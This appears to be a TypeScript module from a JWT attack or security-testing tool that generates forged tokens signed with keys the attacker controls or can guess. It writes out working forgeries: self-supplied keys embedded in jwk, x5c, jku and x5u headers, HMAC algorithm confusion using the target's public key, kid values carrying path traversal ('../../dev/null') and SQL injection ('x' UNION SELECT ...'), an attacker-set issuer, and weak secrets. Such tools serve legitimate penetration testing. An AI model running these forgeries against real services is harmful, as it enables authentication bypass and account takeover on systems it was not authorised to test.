import type { Forgery, Material } from './forgery.js'
import { type OwnKey, ownKeyFor, ownKeys } from './own-keys.js'
import { type Changes, jws, type MacAlgorithm, mac, macAlgorithms, macOf } from './signing.js'
import { spellings } from './spellings.js'
import { secretsOf } from './weak-secrets.js'

const sort = 'another-key' as const

/** The name under which our own key is known, where it has one of its own. */
const ownName = 'key-of-nobody'

const data = (type: string, content: string): string => `data:${type},${encodeURIComponent(content)}`

const pem = (certificate: string): string =>
  `-----BEGIN CERTIFICATE-----\n${certificate.match(/.{1,64}/g)?.join('\n')}\n-----END CERTIFICATE-----\n`

/**
 * Where a header can say which key to use. An address that holds what it leads to needs nobody to serve it.
 *
 * @see RFC 7515 §4.1.2 to §4.1.6, RFC 2397
 */
const places = {
  jwk: ({ jwk }: OwnKey): unknown => jwk,
  x5c: ({ certificate }: OwnKey): unknown => (certificate === null ? undefined : [certificate]),
  jku: ({ jwk }: OwnKey): unknown => data('application/json', JSON.stringify({ keys: [jwk] })),
  x5u: ({ certificate }: OwnKey): unknown =>
    certificate === null ? undefined : data('application/x-pem-file', pem(certificate)),
} as const
type Place = keyof typeof places

function ownSigned(
  material: Material,
  key: OwnKey,
  where: readonly Place[],
  changes: Changes = {},
): ReturnType<Forgery['made']> {
  const header = { ...changes.header, alg: key.alg }
  const named = {
    ...key,
    jwk: { ...key.jwk, alg: key.alg, kid: changes.header?.kid ?? material.jwt?.header.kid },
  }
  const given = where
    .map((place): [string, unknown] => [place, places[place](named)])
    .filter(([, value]) => value !== undefined)
  if (given.length === 0) return null
  return jws(
    material,
    { ...changes, header: { ...header, ...Object.fromEntries(given) } },
    {
      sign: (input) => key.sign(input).toString('base64url'),
      script: key.script,
    },
  )
}

const ownKeyOf = ({ jwt }: Material): OwnKey => ownKeyFor(jwt?.header.alg)

const inHeader = (where: readonly Place[]): string => `which its header gives as ${where.join(' and ')}`

const several: readonly Forgery[] = (
  [
    ['jwk', 'x5c'],
    ['jku', 'x5u'],
  ] as const
).flatMap((where, index): readonly Forgery[] => [
  {
    ...{ sort, id: `own-key-${where.join('-')}`, sent: index === 0 ? 'quick' : 'default' },
    words: `signed with a key of our own, ${inHeader(where)}`,
    made: (material) => ownSigned(material, ownKeyOf(material), where),
    simpler: where.map((place) => `own-key-${place}`),
  },
  ...where.map(
    (place): Forgery => ({
      ...{ sort, id: `own-key-${place}`, sent: 'exhaustive' },
      words: `signed with a key of our own, ${inHeader([place])}`,
      made: (material) => ownSigned(material, ownKeyOf(material), [place]),
    }),
  ),
])

/** What else a server may go by before it looks for a key. */
const circumstances: readonly (readonly [id: string, words: string, changes: (m: Material) => Changes])[] = [
  ['own-name', 'under a kid of our own', () => ({ header: { kid: ownName } })],
  [
    'other-issuer',
    'under another issuer and a kid of our own',
    ({ target }) => ({
      header: { kid: ownName },
      payload: { of: 'valid', claims: { iss: `https://${target.attackerHost}/` } },
    }),
  ],
]

const named = circumstances.map(
  ([id, words, changes]): Forgery => ({
    ...{ sort, id: `own-key-${id}`, sent: 'default' },
    words: `signed with a key of our own ${words}, ${inHeader(['jwk', 'x5c'])}`,
    made: (material) => ownSigned(material, ownKeyOf(material), ['jwk', 'x5c'], changes(material)),
  }),
)

const ofEachKind = ownKeys.map(
  (key): Forgery => ({
    ...{ sort, id: `own-key-${key.alg}`, sent: 'exhaustive' },
    words: `signed by ${key.alg} with a key of our own, ${inHeader(['jwk', 'jku'])}`,
    made: (material) => ownSigned(material, key, ['jwk', 'jku']),
  }),
)

/** The valid token's claims under a MAC. */
const macSigned = (
  material: Material,
  alg: MacAlgorithm,
  secret: string | Buffer,
  changes: Changes = {},
): ReturnType<Forgery['made']> =>
  jws(material, { ...changes, header: { ...changes.header, alg } }, mac(alg, secret))

/** @see RFC 8725 §2.1: the public key of one algorithm is the secret of the other */
const published: readonly Forgery[] = spellings.flatMap(({ id, words, sent, secretOf }) =>
  macAlgorithms.map((alg): Forgery => {
    const isUsual = alg === 'HS256'
    return {
      ...{ sort, id: `published-key-${id}-${alg}`, sent: isUsual ? sent : 'exhaustive', ofKeys: true },
      words: `signed by ${alg} with a key that the target publishes as the secret, ${words}`,
      made: (material) => {
        const [key] = material.keys
        const secret = key === undefined ? null : secretOf(key)
        return secret === null ? null : macSigned(material, alg, secret)
      },
    }
  }),
)

/** Every other key of the set, in the spelling that is met most. */
const others = [1, 2, 3, 4, 5, 6, 7].map(
  (at): Forgery => ({
    ...{ sort, id: `published-key-${at}`, sent: 'exhaustive', ofKeys: true },
    words: `signed by HS256 with key ${at + 1} of those that the target publishes as the secret, in PEM`,
    made: (material) => {
      const key = material.keys[at]
      const secret = key === undefined ? null : (spellings[0]?.secretOf(key) ?? null)
      return secret === null ? null : macSigned(material, 'HS256', secret)
    },
  }),
)

/** Names of keys that lead to a secret that everybody knows, wherever a server looks for it by that name. */
const names: readonly {
  readonly id: string
  readonly kid: string
  readonly secret: string
  readonly sent: Forgery['sent']
  readonly words: string
}[] = [
  {
    ...{ id: 'dev-null', kid: '../../../../../../../../../../dev/null', secret: '', sent: 'quick' },
    words: 'that is the path of an empty file, and signed with nothing as the secret',
  },
  {
    ...{ id: 'sql', kid: `x' UNION SELECT '${ownName}`, secret: ownName, sent: 'default' },
    words: 'that makes a query of SQL yield the secret, and signed with that',
  },
  {
    ...{ id: 'absolute', kid: '/dev/null', secret: '', sent: 'exhaustive' },
    words: 'that is the path of an empty file, from the root, and signed with nothing as the secret',
  },
  {
    ...{ id: 'file', kid: 'file:///dev/null', secret: '', sent: 'exhaustive' },
    words: 'that is the address of an empty file, and signed with nothing as the secret',
  },
  {
    ...{ id: 'sql-comment', kid: `x' UNION SELECT '${ownName}' -- `, secret: ownName, sent: 'exhaustive' },
    words: 'that makes a query of SQL yield the secret, and signed with that',
  },
  {
    ...{ id: 'data', kid: `data:,${ownName}`, secret: ownName, sent: 'exhaustive' },
    words: 'that is an address which holds the secret, and signed with that',
  },
  {
    ...{ id: 'itself', kid: ownName, secret: ownName, sent: 'exhaustive' },
    words: 'of our own, and signed with that name as the secret',
  },
  {
    ...{ id: 'empty', kid: '', secret: '', sent: 'exhaustive' },
    words: 'that is empty, and signed with nothing as the secret',
  },
]

const byName = names.map(
  ({ id, kid, secret, sent, words }): Forgery => ({
    ...{ sort, id: `kid-${id}`, sent },
    words: `with a kid ${words}`,
    made: (material) => macSigned(material, macOf(material), secret, { header: { kid } }),
    ...(secret === '' ? { simpler: ['secret-empty'] } : {}),
  }),
)

const weakSecrets = secretsOf.map(
  ({ id, words, sent, secret }): Forgery => ({
    ...{ sort, id: `secret-${id}`, sent },
    words: `signed with ${words} as the secret`,
    made: (material) => {
      const text = secret(material)
      // With one member more, so that it is another token where the secret is the right one.
      const claims = { [ownName]: '' }
      return text === null
        ? null
        : macSigned(
            material,
            macOf(material),
            text.value,
            text.isRight ? { payload: { of: 'valid', claims } } : {},
          )
    },
  }),
)

/** Tokens signed with a key that anybody could have: the target's public one, one of our own, one that can be guessed. */
export const anotherKey: readonly Forgery[] = [
  ...several,
  ...named,
  ...published,
  ...byName,
  ...weakSecrets,
  ...ofEachKind,
  ...others,
]
